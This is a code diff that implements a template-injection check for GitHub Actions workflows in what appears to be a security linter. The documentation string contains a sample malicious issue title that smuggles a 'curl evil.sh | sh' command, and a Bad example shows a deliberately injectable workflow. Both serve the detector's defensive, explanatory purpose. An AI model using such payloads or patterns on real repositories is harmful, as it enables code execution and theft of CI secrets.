@@ -1,11 +1,124 @@
 package checks
 
-import "github.com/rampart-sec/rampart/audit"
+import (
+	"fmt"
 
-// TemplateInjection is a placeholder being written; see its issue.
+	"github.com/rampart-sec/rampart/audit"
+)
+
+// TemplateInjection flags ${{ }} expressions that expand attacker-controllable data into code:
+// run: scripts and the code-taking inputs of actions such as actions/github-script.
 var TemplateInjection = &audit.Check{
-	ID:       "template-injection",
-	Title:    "TODO",
-	Category: audit.CategoryInjection,
-	Run:      func(*audit.Pass) error { return nil },
+	ID:         "template-injection",
+	Title:      "Attacker-controllable data expanded into a script",
+	Severity:   audit.High,
+	Confidence: audit.HighConfidence,
+	Category:   audit.CategoryInjection,
+	Doc: `GitHub expands ` + "`${{ }}`" + ` expressions before the shell (or Node, for ` + "`actions/github-script`" + `)
+sees the script: the value becomes part of the code. An issue titled ` + "`\"; curl evil.sh | sh; echo \"`" + `
+turns ` + "`echo \"${{ github.event.issue.title }}\"`" + ` into three commands, run with the job's token and
+secrets. Quoting does not help, since the quotes are in the text the attacker completes.
+
+Severity follows who controls the value and who can start the run:
+
+- **critical**: data that anyone on GitHub can write (issue, pull request, comment, review and
+  discussion titles and bodies, head branch names, commit messages and author names, fork
+  descriptions, ` + "`workflow_run`" + ` head branches and titles...) in a workflow that such a person can trigger
+  with the base repository's secrets and a write token: ` + "`pull_request_target`" + `, ` + "`workflow_run`" + `,
+  ` + "`issues`" + `, ` + "`issue_comment`" + `, ` + "`discussion`" + `, ` + "`discussion_comment`" + `;
+- **high**: the same data under other triggers (` + "`pull_request`" + `, ` + "`push`" + `), in reusable workflows and
+  composite actions, or dumped whole with ` + "`toJSON(github.event)`" + `;
+- **medium**: string inputs of composite actions and reusable workflows (the caller decides what they
+  hold, low confidence), release names and bodies (generated release notes quote contributors'
+  pull request titles), ` + "`repository_dispatch`" + ` payloads;
+- **low**: string inputs of ` + "`workflow_dispatch`" + ` (only users with write access can dispatch), step and job
+  outputs and env variables set at run time (low confidence), and attacker fields that none of the
+  workflow's triggers sets.
+
+Expressions are followed through ` + "`env:`" + ` entries, job ` + "`outputs:`" + ` (` + "`needs.*.outputs`" + `) and matrix
+values; outputs of actions known to return attacker text unescaped (the branch of a commented pull
+request, changed file names with ` + "`safe_output: false`" + `) count as attacker-controlled. Booleans (comparisons, ` + "`contains()`" + `, ` + "`startsWith()`" + `), numbers and ids
+(` + "`github.event.pull_request.number`" + `), SHAs, logins (letters, digits and hyphens only), ` + "`secrets.*`" + `,
+` + "`vars.*`" + ` and constants are never reported. Besides ` + "`run:`" + `, the code inputs of
+` + "`actions/github-script`" + ` (` + "`script`" + `), ` + "`azure/cli`" + ` and ` + "`azure/powershell`" + ` (` + "`inlineScript`" + `),
+` + "`appleboy/ssh-action`" + ` (` + "`script`" + `), ` + "`nick-fields/retry`" + ` (` + "`command`" + `) and similar actions are sinks.`,
+	Bad: `on: issue_comment
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Greet
+        run: |
+          echo "Thanks for: ${{ github.event.comment.body }}"
+`,
+	Good: `on: issue_comment
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Greet
+        env:
+          COMMENT_BODY: ${{ github.event.comment.body }}
+        run: |
+          echo "Thanks for: $COMMENT_BODY"
+`,
+	Fix: `Pass the value through an environment variable and refer to it as a quoted shell variable
+(` + "`\"$VAR\"`" + `), or as ` + "`process.env.VAR`" + ` in github-script; the runner then hands it over as data, never as code.
+
+` + "```yaml" + `
+- env:
+    TITLE: ${{ github.event.issue.title }}
+  run: echo "$TITLE"
+` + "```" + `
+
+Where the value should have a known shape (a version, a branch name), also validate it
+before use. Prefer the runner's own variables where they exist (` + "`$GITHUB_HEAD_REF`" + `, ` + "`$GITHUB_REF_NAME`" + `).`,
+	References: []string{
+		"https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks",
+		"https://securitylab.github.com/resources/github-actions-untrusted-input/",
+		"https://docs.zizmor.sh/audits/#template-injection",
+		"https://github.com/ossf/scorecard/blob/main/docs/checks.md#dangerous-workflow",
+	},
+	Equivalents: map[string]string{"zizmor": "template-injection", "scorecard": "Dangerous-Workflow",
+		"poutine": "injection", "actionlint": "expression"},
+	Run: runTemplateInjection,
+}
+
+func runTemplateInjection(pass *audit.Pass) error {
+	for _, file := range pass.Target.Files {
+		var trig tiTriggers
+		switch {
+		case file.Workflow != nil:
+			trig = workflowTriggers(file)
+		case file.Action != nil && file.Action.IsComposite():
+			trig = tiTriggers{any: true}
+		default:
+			continue
+		}
+		for _, ref := range file.Steps() {
+			sc := tiScope{file: file, wf: file.Workflow, job: ref.Job, step: ref.Step}
+			where := ref.Label() + " of this composite action"
+			if ref.Job != nil && ref.Job.ID != nil {
+				where = fmt.Sprintf("%s in job %q", ref.Label(), ref.Job.ID.Value)
+			}
+			for _, sink := range stepSinks(ref) {
+				for _, e := range file.Exprs(sink.value) {
+					if e.Node == nil {
+						continue
+					}
+					srcs := sc.sources(e.Node)
+					if len(srcs) == 0 {
+						continue
+					}
+					r := rateSource(srcs[0], trig)
+					f := pass.Reportf(file, audit.At(e.Line, e.Col), "%s", tiMessage(srcs, r, sink, where, e.Text))
+					f.Severity, f.Confidence = r.severity, r.confidence
+					f.Key = fmt.Sprintf("%s, %s: %s", where, sink.name, e.Text)
+				}
+			}
+		}
+	}
+	return nil
 }
